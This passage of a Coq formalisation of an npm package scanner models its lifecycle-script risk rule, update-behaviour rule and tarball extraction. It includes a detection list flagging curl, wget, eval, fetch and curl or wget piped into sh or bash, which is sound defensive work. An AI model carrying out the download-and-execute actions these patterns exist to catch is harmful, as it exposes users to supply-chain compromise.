    else if (2 <=? risk4)%nat then RiskMedium
    else if (1 <=? risk4)%nat then RiskLow
    else RiskNone in
  {| risk := risk4; riskLevel := riskLevel; issues := issues4;
     isHighRisk := isHighRisk |}.

Record Finding : Type := {
  hook : string;
  script : string;
  findingRisk : nat;
  findingRiskLevel : RiskLevel;
  findingIssues : list Issue;
  findingIsHighRisk : bool;
}.

Inductive Details : Type :=
| Reason (reason : string)
| Report (findings : list Finding) (totalScripts riskyScripts totalRisk : nat)
         (hasHighRisk : bool).

Record Result : Type := {
  deduction : Q;
  details : Details;
  resultRiskLevel : RiskLevel;
}.

Section Evaluate.
(** utils/packageAnalyzer.js is not among the sources: its two helpers are
    parameters.  [extractLifecycleScripts] gives the lifecycle scripts of a
    package as hook/command entries, [normalizeScript] the command text
    the patterns are run on. *)
Variable extractLifecycleScripts : PackageData -> StringMap.
Variable normalizeScript : string -> string.

(** The loop over [Object.entries(lifecycleScripts)]: the findings, the
    total risk and the high-risk flag so far. *)
Definition analyzeEntry (st : list Finding * nat * bool) (entry : string * string)
  : list Finding * nat * bool :=
  let '(findings, totalRisk, hasHighRisk) := st in
  let '(hook, script) := entry in
  let normalizedScript := normalizeScript script in
  let scriptAnalysis := _analyzeScript normalizedScript in
  if (0 <? risk scriptAnalysis)%nat then
    (findings ++
       [{| hook := hook; script := normalizedScript;
           findingRisk := risk scriptAnalysis;
           findingRiskLevel := riskLevel scriptAnalysis;
           findingIssues := issues scriptAnalysis;
           findingIsHighRisk := isHighRisk scriptAnalysis |}],
     (totalRisk + risk scriptAnalysis)%nat,
     if isHighRisk scriptAnalysis then true else hasHighRisk)
  else st.

Definition analyzeScripts (lifecycleScripts : StringMap)
  : list Finding * nat * bool :=
  fold_left analyzeEntry lifecycleScripts ([], 0%nat, false).

(** The deduction for a total risk and a high-risk flag. *)
Definition deductionFor (w : Q) (totalRisk : nat) (hasHighRisk : bool) : Q :=
  if hasHighRisk || (3 <=? totalRisk)%nat then w
  else if (2 <=? totalRisk)%nat then mathFloor (w * 0.75)
  else if (1 <=? totalRisk)%nat then mathFloor (w * 0.5)
  else 0.

(** The overall risk level for a total risk and a high-risk flag. *)
Definition riskLevelFor (totalRisk : nat) (hasHighRisk : bool) : RiskLevel :=
  if hasHighRisk then RiskHigh
  else if (2 <=? totalRisk)%nat then RiskMedium
  else if (1 <=? totalRisk)%nat then RiskLow
  else RiskNone.

(** [evaluate(packageData)] *)
Definition evaluate (rule : BaseRule) (packageData : PackageData) : Result :=
  if negb (isEnabled rule) then
    {| deduction := 0; details := Reason "Rule is disabled";
       resultRiskLevel := RiskNone |}
  else
    let lifecycleScripts := extractLifecycleScripts packageData in
    if (length (keys lifecycleScripts) =? 0)%nat then
      {| deduction := 0; details := Reason "No lifecycle scripts found";
         resultRiskLevel := RiskNone |}
    else
      let '(findings, totalRisk, hasHighRisk) := analyzeScripts lifecycleScripts in
      {| deduction := deductionFor (weight rule) totalRisk hasHighRisk;
         details :=
           Report findings (length (keys lifecycleScripts)) (length findings)
                  totalRisk hasHighRisk;
         resultRiskLevel := riskLevelFor totalRisk hasHighRisk |}.
End Evaluate.

(** The rule as constructed: [new LifecycleScriptRiskRule(weight)]. *)
Definition make (weight : Q) : BaseRule :=
  {| ruleName := "lifecycle-script-risk"; weight := weight; enabled := true |}.

End LifecycleScriptRiskRule.

(** ** Update-behaviour rule *)

Module UpdateBehaviorRule.
Import JS Regex Model.
Local Open Scope Q_scope.

(** A version history: version string to metadata, in own-property order;
    a value may be null. *)
Definition VersionHistory : Type := list (string * option PackageData).

Inductive DepType : Type :=
| Dependencies | DevDependencies | PeerDependencies | OptionalDependencies.

(** The registry client: [getAllVersions(name)] resolves to a history, to
    null when the package is unknown, or rejects. *)
Record RegistryClient : Type := {
  getAllVersions : string -> outcome (option VersionHistory);
}.

(** The rule object: the base fields and the constructor's settings. *)
Record Rule : Type := {
  base : BaseRule;
  registryClient : RegistryClient;
  sizeIncreaseThreshold : Q;
  maxVersionsToAnalyze : Z;
  versionJumpThreshold : Z;
}.

(** The optional settings of the constructor's [config] argument. *)
Record RuleConfig : Type := {
  cfgSizeIncreaseThreshold : option Q;
  cfgMaxVersionsToAnalyze : option Z;
  cfgVersionJumpThreshold : option Z;
}.

Definition noConfig : RuleConfig :=
  {| cfgSizeIncreaseThreshold := None; cfgMaxVersionsToAnalyze := None;
     cfgVersionJumpThreshold := None |}.

(** [x || d] on numbers: zero is falsy. *)
Definition orDefaultQ (x : option Q) (d : Q) : Q :=
  match x with
  | Some q => if Qeq_bool q 0 then d else q
  | None => d
  end.
Definition orDefaultZ (x : option Z) (d : Z) : Z :=
  match x with
  | Some z => if (z =? 0)%Z then d else z
  | None => d
  end.

(** [new UpdateBehaviorRule(weight, config)] *)
Definition make (weight : Q) (client : RegistryClient) (cfg : RuleConfig) : Rule :=
  {| base := {| ruleName := "update-behavior"; weight := weight; enabled := true |};
     registryClient := client;
     sizeIncreaseThreshold := orDefaultQ (cfgSizeIncreaseThreshold cfg) 0.5;
     maxVersionsToAnalyze := orDefaultZ (cfgMaxVersionsToAnalyze cfg) 10;
     versionJumpThreshold := orDefaultZ (cfgVersionJumpThreshold cfg) 2 |}.

(** *** Semantic versions *)

Record ParsedVersion : Type := {
  major : Z;
  minor : Z;
  patch : Z;
  prerelease : option string;
  build : option string;
}.

(** The integer a run of decimal digits writes. *)
Definition decimalValue (digits : list ascii) : Z :=
  fold_left (fun acc c => (acc * 10 + Z.of_nat (code c - 48))%Z) digits 0%Z.

(** [Number.MAX_SAFE_INTEGER], 2^53 - 1: up to it every integer is a
    number of the language. *)
Definition maxSafeInteger : Z := 9007199254740991.

(** The number nearest to a non-negative integer, ties to the even
    mantissa: 53 significant bits are kept.  Integers from 2^1024 on, which
    the language reads as Infinity, are not represented. *)
Definition toDouble (n : Z) : Z :=
  if (n <=? maxSafeInteger)%Z then n
  else
    let e := (Z.log2 n - 52)%Z in
    let q := Z.shiftr n e in
    let r := (n - Z.shiftl q e)%Z in
    let half := Z.shiftl 1 (e - 1) in
    let q' :=
      if (r <? half)%Z then q
      else if (half <? r)%Z then (q + 1)%Z
      else if Z.even q then q else (q + 1)%Z in
    Z.shiftl q' e.

(** [parseInt(digits, 10)] on a run of decimal digits: the number nearest
    to the integer written. *)
Definition parseInt (digits : list ascii) : Z := toDouble (decimalValue digits).

(** The longest run of digits at the head, and what follows it. *)
Fixpoint spanDigits (s : list ascii) : list ascii * list ascii :=
  match s with
  | c :: t =>
      if isDigit c then let '(d, rest) := spanDigits t in (c :: d, rest)
      else ([], s)
  | [] => ([], [])
  end.

Definition isDot (c : ascii) : bool := (code c =? 46)%nat.

(** A [(.+)] reaching the end of the input: not empty, no line terminator. *)
Definition restOfLine (s : list ascii) : bool :=
  match s with
  | [] => false
  | _ => forallb (fun c => negb (isLineTerminator c)) s
  end.

(** [(\d+)\.]: a non-empty run of digits and a dot. *)
Definition numberThenDot (s : list ascii) : option (Z * list ascii) :=
  match spanDigits s with
  | (c :: d, dotc :: rest) =>
      if isDot dotc then Some (parseInt (c :: d), rest) else None
  | _ => None
  end.

(** [_parseVersion(version)]: a leading [v] is dropped, then the whole
    string must read [digits.digits.digits], optionally followed by a
    hyphen and a pre-release or by a plus sign and a build.  The greedy
    pre-release group takes everything after the hyphen. *)
Definition _parseVersion (version : string) : option ParsedVersion :=
  let cleanVersion :=
    match chars version with
    | c :: t => if (code c =? 118)%nat then t else c :: t
    | [] => []
    end in
  match numberThenDot cleanVersion with
  | None => None
  | Some (maj, s1) =>
      match numberThenDot s1 with
      | None => None
      | Some (mnr, s2) =>
          match spanDigits s2 with
          | ([], _) => None
          | (d, rest) =>
              let mk pre bld :=
                Some {| major := maj; minor := mnr; patch := parseInt d;
                        prerelease := pre; build := bld |} in
              match rest with
              | [] => mk None None
              | c :: tail =>
                  if (code c =? 45)%nat && restOfLine tail then
                    mk (Some (str tail)) None
                  else if (code c =? 43)%nat && restOfLine tail then
                    mk None (Some (str tail))
                  else None
              end
          end
      end
  end.

Inductive JumpType : Type := MajorJump | MinorJump.

Record JumpAnalysis : Type := {
  isUnusual : bool;
  jumpType : option JumpType;
  magnitude : option Z;
}.

Definition notUnusual : JumpAnalysis :=
  {| isUnusual := false; jumpType := None; magnitude := None |}.

(** [_analyzeVersionJump(prevVersion, currVersion)] *)
Definition _analyzeVersionJump (rule : Rule) (prevVersion currVersion : string)
  : JumpAnalysis :=
  match _parseVersion prevVersion, _parseVersion currVersion with
  | Some prev, Some curr =>
      (* Major version jump *)
      if (versionJumpThreshold rule <=? major curr - major prev)%Z then
        {| isUnusual := true; jumpType := Some MajorJump;
           magnitude := Some (major curr - major prev)%Z |}
      (* Skipped minor versions *)
      else if (major curr =? major prev)%Z && (5 <? minor curr - minor prev)%Z then
        {| isUnusual := true; jumpType := Some MinorJump;
           magnitude := Some (minor curr - minor prev)%Z |}
      else notUnusual
  | _, _ => notUnusual
  end.

Section Comparator.
(** [a.localeCompare(b)]: the collation of the runtime, a parameter. *)
Variable localeCompare : string -> string -> Z.

(** [_compareVersionStrings(a, b)] *)
Definition _compareVersionStrings (a b : string) : Z :=
  match _parseVersion a, _parseVersion b with
  | Some aParsed, Some bParsed =>
      if negb (major aParsed =? major bParsed)%Z then
        (major aParsed - major bParsed)%Z
      else if negb (minor aParsed =? minor bParsed)%Z then
        (minor aParsed - minor bParsed)%Z
      else if negb (patch aParsed =? patch bParsed)%Z then
        (patch aParsed - patch bParsed)%Z
      else 0%Z
  | _, _ => localeCompare a b
  end.

Record Jump : Type := {
  from : string;
  to : string;
  type : option JumpType;
  jumpMagnitude : option Z;
}.

Fixpoint jumpsOf (rule : Rule) (sortedVersions : list string) : list Jump :=
  match sortedVersions with
  | prev :: ((curr :: _) as rest) =>
      let jump := _analyzeVersionJump rule prev curr in
      if isUnusual jump then
        {| from := prev; to := curr; type := jumpType jump;
           jumpMagnitude := magnitude jump |} :: jumpsOf rule rest
      else jumpsOf rule rest
  | _ => []
  end.

(** [_detectVersionJumps(versions)] *)
Definition _detectVersionJumps (rule : Rule) (versions : list string) : list Jump :=
  jumpsOf rule (sortBy _compareVersionStrings versions).
End Comparator.

(** *** Differences between two versions *)

Inductive Severity : Type := SeverityHigh | SeverityMedium.

Record SizeChange : Type := {
  previous : Q;
  current : Q;
  increase : Q;
  increasePercent : Q;
  severity : Severity;
}.

Record ScriptChanges : Type := {
  hasChanges : bool;
  added : list (string * string);
  removed : list (string * string);
  modified : list (string * string * string);
  newSuspiciousScripts : list (string * string);
}.

Record DependencyChanges : Type := {
  hasSignificantChanges : bool;
  addedDependencies : list (string * string * DepType);
  removedDependencies : list (string * string * DepType);
  totalAdded : nat;
  totalRemoved : nat;
}.

Record Changes : Type := {
  hasIssues : bool;
  sizeChange : option SizeChange;
  scriptChanges : option ScriptChanges;
  dependencyChanges : option DependencyChanges;
}.

Definition Qltb (a b : Q) : bool := negb (Qle_bool b a).

Definition suspiciousPatterns : list Pattern :=
  [ toolWithArgument "curl";
    toolWithArgument "wget";
    callOf "eval";
    callOf "fetch";
    requireOf (Seq (lit "http") (opt (lit "s")));
    toolPipedTo "curl" "sh";
    toolPipedTo "curl" "bash";
    toolPipedTo "wget" "sh";
    toolPipedTo "wget" "bash" ].

(** [_isSuspiciousScript(script)] *)
Definition _isSuspiciousScript (script : string) : bool :=
  if negb (truthy script) then false
  else existsb (fun p => patternTest p script) suspiciousPatterns.

Definition depTypes : list DepType :=
  [Dependencies; DevDependencies; PeerDependencies; OptionalDependencies].

Section Analysis.
(** utils/packageAnalyzer.js is not among the sources: its helpers are
    parameters, as is the collation behind [localeCompare]. *)
Variable extractLifecycleScripts : PackageData -> StringMap.
Variable normalizeScript : string -> string.
Variable extractDependencies : PackageData -> DepType -> option StringMap.
Variable localeCompare : string -> string -> Z.

(** [_detectScriptChanges(prevScripts, currScripts)] *)
Definition _detectScriptChanges (prevScripts currScripts : StringMap)
  : ScriptChanges :=
  let prevHooks := keys prevScripts in
  let currHooks := keys currScripts in
  (* added scripts *)
  let added :=
    filter (fun e => includes prevHooks (fst e) = false) currScripts in
  let suspiciousAdded :=
    filter (fun e => _isSuspiciousScript (snd e) = true) added in
  (* removed scripts *)
  let removed :=
    filter (fun e => includes currHooks (fst e) = false) prevScripts in
  (* modified scripts *)
  let common :=
    omap (fun e =>
            match getProp currScripts (fst e) with
            | Some curr =>
                let prevScript := normalizeScript (snd e) in
                let currScript := normalizeScript curr in
                if String.eqb prevScript currScript then None
                else Some (fst e, prevScript, currScript)
            | None => None
            end) prevScripts in
  let suspiciousModified :=
    omap (fun m =>
            let '(hook, prevScript, currScript) := m in
            if negb (_isSuspiciousScript prevScript)
               && _isSuspiciousScript currScript
            then Some (hook, currScript) else None) common in
  {| hasChanges :=
       negb (length added =? 0)%nat || negb (length removed =? 0)%nat
       || negb (length common =? 0)%nat;
     added := added;
     removed := removed;
     modified := common;
     newSuspiciousScripts := suspiciousAdded ++ suspiciousModified |}.

Definition orEmpty (m : option StringMap) : StringMap :=
  match m with Some o => o | None => [] end.

(** [_detectDependencyChanges(prevDeps, currDeps)] *)
Definition _detectDependencyChanges
    (prevDeps currDeps : DepType -> option StringMap) : DependencyChanges :=
  let addedOf (t : DepType) :=
    let prev := orEmpty (prevDeps t) in
    let curr := orEmpty (currDeps t) in
    map (fun e => (fst e, snd e, t))
        (filter (fun e => includes (keys prev) (fst e) = false) curr) in
  let removedOf (t : DepType) :=
    let prev := orEmpty (prevDeps t) in
    let curr := orEmpty (currDeps t) in
    map (fun e => (fst e, snd e, t))
        (filter (fun e => includes (keys curr) (fst e) = false) prev) in
  let allAdded := concat (map addedOf depTypes) in
  let allRemoved := concat (map removedOf depTypes) in
  {| hasSignificantChanges := (10 <? length allAdded)%nat;
     addedDependencies := allAdded;
     removedDependencies := allRemoved;
     totalAdded := length allAdded;
     totalRemoved := length allRemoved |}.

(** [x || 0] *)
Definition sizeOrZero (x : option Q) : Q :=
  match x with Some q => q | None => 0 end.

(** [_compareVersionMetadata(prevMetadata, currMetadata, ...)] *)
Definition _compareVersionMetadata (rule : Rule)
    (prevMetadata currMetadata : PackageData) : Changes :=
  (* 1. size changes *)
  let prevSize := sizeOrZero (unpackedSize prevMetadata) in
  let currSize := sizeOrZero (unpackedSize currMetadata) in
  let sizeIncrease := (currSize - prevSize) / prevSize in
  let size :=
    if Qltb 0 prevSize && Qltb 0 currSize
       && Qltb (sizeIncreaseThreshold rule) sizeIncrease
    then Some {| previous := prevSize; current := currSize;
                 increase := sizeIncrease;
                 increasePercent := mathRound (sizeIncrease * 100);
                 severity := if Qltb 1 sizeIncrease then SeverityHigh
                             else SeverityMedium |}
    else None in
  (* 2. script changes *)
  let scriptChanges :=
    _detectScriptChanges (extractLifecycleScripts prevMetadata)
                         (extractLifecycleScripts currMetadata) in
  (* 3. dependency changes *)
  let depChanges :=
    _detectDependencyChanges (extractDependencies prevMetadata)
                             (extractDependencies currMetadata) in
  {| hasIssues :=
       match size with Some _ => true | None => false end
       || hasChanges scriptChanges || hasSignificantChanges depChanges;
     sizeChange := size;
     scriptChanges :=
       if hasChanges scriptChanges then Some scriptChanges else None;
     dependencyChanges :=
       if hasSignificantChanges depChanges then Some depChanges else None |}.

(** *** The analysis of a history *)

Inductive Finding : Type :=
| ChangeFinding (fromVersion toVersion : string) (changes : Changes)
| VersionJumpFinding (fromVersion toVersion : string) (jumpType : option JumpType).

Record Analysis : Type := {
  findings : list Finding;
  versionsAnalyzed : nat;
  totalVersions : nat;
  hasSuspiciousChanges : bool;
}.

(** The sorted version list of [_analyzeVersionChanges].  The source
    passes [this._compareVersions] to [sort]; the class has no method of
    that name (its comparator is [_compareVersionStrings]) and the base
    rule has none either, so the argument is undefined and [sort] orders
    the keys by its default order on strings. *)
Definition sortedVersions (versionHistory : VersionHistory) : list string :=
  sortDefault (keys versionHistory).

(** [versions[versions.length - 1]] *)
Definition lastVersion (versions : list string) : option string := last versions.

(** The window of versions that are diffed pairwise. *)
Definition versionsToAnalyze (rule : Rule) (currentPackage : PackageData)
    (versionHistory : VersionHistory) : list string :=
  let versions := sortedVersions versionHistory in
  let currentVersion := orElse (version currentPackage) (lastVersion versions) in
  (* the last N versions *)
  let recentVersions := slice versions (- maxVersionsToAnalyze rule)%Z None in
  let currentIndex :=
    match currentVersion with
    | Some v => indexOf recentVersions v
    | None => (-1)%Z
    end in
  if (0 <=? currentIndex)%Z
  then slice recentVersions 0%Z (Some (currentIndex + 1)%Z)
  else slice recentVersions (-5)%Z None.

(** The body of the loop over the window: the findings so far, the
    previous version and its metadata. *)
Definition diffStep (rule : Rule) (versionHistory : VersionHistory)
    (st : list Finding * option string * option PackageData) (version : string)
  : list Finding * option string * option PackageData :=
  let '(found, previousVersion, previousMetadata) := st in
  match getProp versionHistory version with
  | Some (Some versionMetadata) =>
      let found' :=
        match previousVersion, previousMetadata with
        | Some pv, Some pm =>
            if truthy pv then
              let changes := _compareVersionMetadata rule pm versionMetadata in
              if hasIssues changes
              then found ++ [ChangeFinding pv version changes]
              else found
            else found
        | _, _ => found
        end in
      (found', Some version, Some versionMetadata)
  | _ => st
  end.

(** [_analyzeVersionChanges(currentPackage, versionHistory)] *)
Definition _analyzeVersionChanges (rule : Rule) (currentPackage : PackageData)
    (versionHistory : VersionHistory) : Analysis :=
  let versions := sortedVersions versionHistory in
  let window := versionsToAnalyze rule currentPackage versionHistory in
  let '(found, _, _) :=
    fold_left (diffStep rule versionHistory) window ([], None, None) in
  (* unusual version jumps *)
  let versionJumps := _detectVersionJumps localeCompare rule versions in
  let all :=
    found ++ map (fun j => VersionJumpFinding (from j) (to j) (type j)) versionJumps in
  {| findings := all;
     versionsAnalyzed := length window;
     totalVersions := length versions;
     hasSuspiciousChanges := negb (length all =? 0)%nat |}.

(** One finding's share of the risk score, and whether it is high risk. *)
Definition findingRisk (f : Finding) : nat * bool :=
  match f with
  | VersionJumpFinding _ _ _ => (1%nat, false)
  | ChangeFinding _ _ changes =>
      let '(r1, h1) :=
        match sizeChange changes with
        | Some sc =>
            match severity sc with
            | SeverityHigh => (3%nat, true)
            | SeverityMedium => (1%nat, false)
            end
        | None => (0%nat, false)
        end in
      let '(r2, h2) :=
        match scriptChanges changes with
        | Some sc =>
            if (0 <? length (newSuspiciousScripts sc))%nat
            then ((length (newSuspiciousScripts sc) * 2)%nat, true)
            else if hasChanges sc then (1%nat, false) else (0%nat, false)
        | None => (0%nat, false)
        end in
      let r3 :=
        match dependencyChanges changes with
        | Some dc => if hasSignificantChanges dc then 1%nat else 0%nat
        | None => 0%nat
        end in
      ((r1 + r2 + r3)%nat, h1 || h2)
  end.

(** [_calculateRisk(analysis)] *)
Definition _calculateRisk (rule : Rule) (analysis : Analysis) : Q * RiskLevel :=
  if negb (hasSuspiciousChanges analysis)
     || (length (findings analysis) =? 0)%nat
  then (0, RiskNone)
  else
    let riskScore :=
      fold_left (fun acc f => (acc + fst (findingRisk f))%nat) (findings analysis) 0%nat in
    let hasHighRisk := existsb (fun f => snd (findingRisk f)) (findings analysis) in
    let w := weight (base rule) in
    let deduction :=
      if hasHighRisk || (5 <=? riskScore)%nat then w
      else if (3 <=? riskScore)%nat then mathFloor (w * 0.75)
      else if (1 <=? riskScore)%nat then mathFloor (w * 0.5)
      else 0 in
    let riskLevel :=
      if hasHighRisk || (5 <=? riskScore)%nat then RiskHigh
      else if (3 <=? riskScore)%nat then RiskMedium
      else if (1 <=? riskScore)%nat then RiskLow
      else RiskNone in
    (deduction, riskLevel).

(** *** [evaluate] *)

Inductive Details : Type :=
| Reason (reason : string) (error : option string)
| Analysed (analysis : Analysis) (versionCount analyzedVersions : nat).

Record Result : Type := {
  deduction : Q;
  details : Details;
  riskLevel : RiskLevel;
}.

(** [_fetchVersionHistory(packageName)]: a failure of the client is
    rethrown under a new message. *)
Definition _fetchVersionHistory (rule : Rule) (packageName : string)
  : outcome (option VersionHistory) :=
  match getAllVersions (registryClient rule) packageName with
  | Return allVersions => Return allVersions
  | Throw message => Throw ("Failed to fetch version history: " +:+ message)
  end.

(** The [try] block of [evaluate]. *)
Definition evaluateBody (rule : Rule) (packageData : PackageData)
    (packageName : string) : outcome Result :=
  bind (_fetchVersionHistory rule packageName) (fun versionHistory =>
    match versionHistory with
    | None =>
        Return {| deduction := 0;
                  details := Reason "Insufficient version history for analysis" None;
                  riskLevel := RiskNone |}
    | Some versionHistory =>
        if (length (keys versionHistory) <? 2)%nat then
          Return {| deduction := 0;
                    details := Reason "Insufficient version history for analysis" None;
                    riskLevel := RiskNone |}
        else
          let analysis := _analyzeVersionChanges rule packageData versionHistory in
          let '(deduction, riskLevel) := _calculateRisk rule analysis in
          Return {| deduction := deduction;
                    details := Analysed analysis (length (keys versionHistory))
                                        (versionsAnalyzed analysis);
                    riskLevel := riskLevel |}
    end).

(** [evaluate(packageData)]; [None] is an absent argument.  Whatever the
    [try] block throws is turned into a zero deduction by the [catch]. *)
Definition evaluate (rule : Rule) (packageData : option PackageData) : Result :=
  if negb (isEnabled (base rule)) then
    {| deduction := 0; details := Reason "Rule is disabled" None;
       riskLevel := RiskNone |}
  else
    match packageData with
    | None =>
        {| deduction := 0; details := Reason "Invalid package data" None;
           riskLevel := RiskNone |}
    | Some packageData =>
        match orElse (name packageData) None with
        | None =>
            {| deduction := 0; details := Reason "Invalid package data" None;
               riskLevel := RiskNone |}
        | Some packageName =>
            match evaluateBody rule packageData packageName with
            | Return result => result
            | Throw message =>
                {| deduction := 0;
                   details := Reason "Could not analyze version history"
                                     (Some message);
                   riskLevel := RiskNone |}
            end
        end
    end.
End Analysis.

End UpdateBehaviorRule.

(** ** Tarball analyzer

    The file system is the set of the paths that exist; what [mkdir], a
    write stream, the download and the archive stream do to it is the
    environment's.  An awaited call settles, with a value or an exception, or
    stays pending for ever: [_extractTarball] builds its promise by hand, and
    some failures reach neither [resolve] nor [reject].  Calls that touch the
    file system run in a small monad over a frame made of the file system and
    of the local variable [extractedPath] of [analyzeTarball]. *)

Module TarballAnalyzer.
Import JS Path.

Abbreviation World := (gset string).

(** How an awaited call ends. *)
Inductive settlement (A : Type) : Type :=
| Settled (result : outcome A)
| Pending.
Arguments Settled {A} result.
Arguments Pending {A}.

Record Frame : Type := {
  world : World;
  extractedPath : option string;
}.

Definition M (A : Type) : Type := Frame -> Frame * settlement A.

Definition ret {A} (a : A) : M A := fun fr => (fr, Settled (Return a)).
Definition bindM {A B} (m : M A) (f : A -> M B) : M B :=
  fun fr =>
    match m fr with
    | (fr', Settled (Return a)) => f a fr'
    | (fr', Settled (Throw e)) => (fr', Settled (Throw e))
    | (fr', Pending) => (fr', Pending)
    end.

Notation "m ;;; k" := (bindM m (fun _ => k))
  (at level 100, k at level 200, right associativity).

(** A call that acts on the file system only. *)
Definition onWorld {A} (f : World -> World * settlement A) : M A :=
  fun fr =>
    let '(w, r) := f (world fr) in
    ({| world := w; extractedPath := extractedPath fr |}, r).

(** A call of the promises API of [fs]: it always settles. *)
Definition settled {A} (r : World * outcome A) : World * settlement A :=
  (fst r, Settled (snd r)).

(** [extractedPath = p] *)
Definition setExtractedPath (p : string) : M unit :=
  fun fr => ({| world := world fr; extractedPath := Some p |}, Settled (Return tt)).

(** [try { m } catch (error) { }]: the error is dropped, the effects stay. *)
Definition ignoringErrors (m : M unit) : M unit :=
  fun fr =>
    match m fr with
    | (fr', Settled _) => (fr', Settled (Return tt))
    | (fr', Pending) => (fr', Pending)
    end.

(** [try { body } finally { final }]: [final] runs when [body] has
    settled; an exception of [final] replaces the result. *)
Definition tryFinally {A} (body : M A) (final : M unit) : M A :=
  fun fr =>
    match body fr with
    | (fr1, Settled result) =>
        match final fr1 with
        | (fr2, Settled (Return _)) => (fr2, Settled result)
        | (fr2, Settled (Throw e)) => (fr2, Settled (Throw e))
        | (fr2, Pending) => (fr2, Pending)
        end
    | (fr1, Pending) => (fr1, Pending)
    end.

Inductive EntryType : Type := Directory | File | OtherType.

(** The header of an archive entry. *)
Record Header : Type := {
  entryName : string;
  entryType : EntryType;
}.

(** What the entry handler of [_extractTarball] does with an entry. *)
Inductive EntryAction : Type :=
| SkipOutside
| MakeDirectory (filePath : string)
| WriteFile (filePath : string)
| SkipOther.

Definition entryAction (extractPath : string) (header : Header) : EntryAction :=
  let filePath := join [extractPath; entryName header] in
  (* skip if outside the extract path *)
  if negb (startsWith filePath extractPath) then SkipOutside
  else
    match entryType header with
    | Directory => MakeDirectory filePath
    | File => WriteFile filePath
    | OtherType => SkipOther
    end.

(** How the write of a file entry ends: the write stream finishes; or it
    fails (there is no listener for its error, and [next] is not called); or
    the entry's own stream fails, which calls [next] with the error. *)
Inductive WriteEnd : Type :=
| Written
| WriteFailed
| EntryFailed (message : string).

(** How the archive stream ends after its entries: the parser finishes; or
    the parser fails, which rejects; or the file or gunzip stream feeding it
    fails, which [pipe] does not pass on. *)
Inductive ArchiveEnd : Type :=
| Finished
| ParserFailed (message : string)
| SourceFailed.

(** How the handler of one entry ends: it calls [next], it never does, or
    it calls [next] with an error. *)
Inductive HandlerEnd : Type :=
| Continue
| Stall
| Abort (message : string).

(** [rm(p, { recursive: true, force: true })] when it succeeds: [p] and
    everything below it is gone. *)
Definition removeTree (p : string) (w : World) : World :=
  filter (fun q => isWithin p q = false) w.

Record Analyzer : Type := {
  tempDir : string;
}.

Section Analyzer.
(** The type of the manifest [_analyzeContents] builds. *)
Variable Analysis : Type.

(** The environment.  [fs_mkdir] is [mkdir(p, { recursive: true })];
    [fs_write] is [createWriteStream(p)] with the entry piped into it;
    [download] is [_downloadTarball(url, destPath)]; [archive] gives the
    entries the archive at a path yields and how the stream ends after
    them; [rmError] tells when a removal fails; [fs_readFile] is
    [readFile(p, 'utf-8')]. *)
Variable fs_mkdir : string -> World -> World * outcome unit.
Variable fs_write : string -> World -> World * WriteEnd.
Variable download : string -> string -> World -> World * settlement unit.
Variable archive : string -> World -> list Header * ArchiveEnd.
Variable _analyzeContents : string -> World -> Analysis.
Variable rmError : string -> World -> option string.
Variable fs_readFile : string -> World -> outcome string.

(** [rm(p, { recursive: true, force: true })] *)
Definition fs_rm (p : string) (w : World) : World * outcome unit :=
  match rmError p w with
  | Some message => (w, Throw message)
  | None => (removeTree p w, Return tt)
  end.

(** The handler of the [entry] event.  A directory entry awaits [mkdir]
    and calls [next]; when [mkdir] rejects, the handler's own promise rejects
    and [next] is not called.  A file entry calls [next] when the write
    stream finishes. *)
Definition handleEntry (extractPath : string) (w : World) (header : Header)
  : World * HandlerEnd :=
  match entryAction extractPath header with
  | SkipOutside | SkipOther => (w, Continue)
  | MakeDirectory filePath =>
      match fs_mkdir filePath w with
      | (w', Return _) => (w', Continue)
      | (w', Throw _) => (w', Stall)
      end
  | WriteFile filePath =>
      match fs_write filePath w with
      | (w', Written) => (w', Continue)
      | (w', WriteFailed) => (w', Stall)
      | (w', EntryFailed message) => (w', Abort message)
      end
  end.

(** The entries in turn: the parser hands out the next entry when [next]
    has been called for the one before. *)
Fixpoint handleEntries (extractPath : string) (entries : list Header) (w : World)
  : World * HandlerEnd :=
  match entries with
  | [] => (w, Continue)
  | header :: rest =>
      match handleEntry extractPath w header with
      | (w', Continue) => handleEntries extractPath rest w'
      | stopped => stopped
      end
  end.

(** [_extractTarball(tarballPath, extractPath)] *)
Definition _extractTarball (tarballPath extractPath : string)
    (w : World) : World * settlement unit :=
  match fs_mkdir extractPath w with
  | (w1, Throw e) => (w1, Settled (Throw e))
  | (w1, Return _) =>
      let '(entries, ending) := archive tarballPath w1 in
      match handleEntries extractPath entries w1 with
      | (w2, Continue) =>
          match ending with
          | Finished => (w2, Settled (Return tt))
          | ParserFailed e => (w2, Settled (Throw e))
          | SourceFailed => (w2, Pending)
          end
      | (w2, Stall) => (w2, Pending)
      | (w2, Abort e) => (w2, Settled (Throw e))
      end
  end.

(** The [try] block of [analyzeTarball]. *)
Definition tryBlock (tarballUrl tempPath : string) : M Analysis :=
  (* create the temp directory *)
  onWorld (fun w => settled (fs_mkdir tempPath w)) ;;;
  (* download the tarball *)
  let tarballPath := join [tempPath; "package.tgz"] in
  onWorld (download tarballUrl tarballPath) ;;;
  (* extract the tarball *)
  let extracted := join [tempPath; "extracted"] in
  setExtractedPath extracted ;;;
  onWorld (_extractTarball tarballPath extracted) ;;;
  (* analyse the extracted contents *)
  onWorld (fun w => (w, Settled (Return (_analyzeContents extracted w)))).

(** The [finally] block: the removals, whose errors are ignored. *)
Definition cleanup (tempPath : string) : M unit :=
  ignoringErrors
    (fun fr =>
       ((match extractedPath fr with
         | Some p =>
             if truthy p then onWorld (fun w => settled (fs_rm p w)) else ret tt
         | None => ret tt
         end) ;;;
        onWorld (fun w => settled (fs_rm tempPath w))) fr).

Definition tempPathOf (this : Analyzer) (packageName : string) : string :=
  join [tempDir this; replaceFirst slash "_" packageName].

(** [analyzeTarball(tarballUrl, packageName)], from a file system [w]:
    the frame at the end and how the call ends. *)
Definition analyzeTarballFrame (this : Analyzer) (tarballUrl packageName : string)
    (w : World) : Frame * settlement Analysis :=
  let fr := {| world := w; extractedPath := None |} in
  if negb (truthy tarballUrl) then (fr, Settled (Throw "Tarball URL is required"))
  else
    let tempPath := tempPathOf this packageName in
    tryFinally (tryBlock tarballUrl tempPath) (cleanup tempPath) fr.

Definition analyzeTarball (this : Analyzer) (tarballUrl packageName : string)
    (w : World) : World * settlement Analysis :=
  let '(fr, result) := analyzeTarballFrame this tarballUrl packageName w in
  (world fr, result).

(** [getFileContent(extractPath, filePath)] *)
Definition getFileContent (extractPath filePath : string) (w : World)
  : outcome string :=
  let fullPath := join [extractPath; "package"; filePath] in
  (* security check *)
  if negb (startsWith fullPath extractPath) then Throw "Invalid file path"
  else
